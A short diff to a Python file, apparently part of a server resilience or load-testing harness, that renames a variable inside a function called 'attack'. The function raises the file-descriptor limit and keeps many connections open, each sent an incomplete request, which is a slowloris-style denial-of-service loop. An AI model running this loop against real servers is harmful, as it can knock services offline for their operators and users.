@@ -50,15 +50,15 @@ def attack(name: str, url: str, otlp: str, ready: Any, go: Any, stopping: Any, w
         words.put("")
         return
     resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
-    kept: list[socket.socket] = []
+    connections: list[socket.socket] = []
     while not stopping.is_set():
         with contextlib.suppress(OSError):
-            if len(kept) < HALF_OPEN:
-                kept.append(socket.create_connection((host, port), timeout=5))
-                kept[-1].sendall(HALF_REQUEST)
+            if len(connections) < HALF_OPEN:
+                connections.append(socket.create_connection((host, port), timeout=5))
+                connections[-1].sendall(HALF_REQUEST)
                 continue
         stopping.wait(0.2)
-    words.put(f"{len(kept)} opened")
+    words.put(f"{len(connections)} opened")
 
 
 def _send(host: str, port: int, path: str, headers: dict[str, str], content: bytes, stopping: Any) -> str:
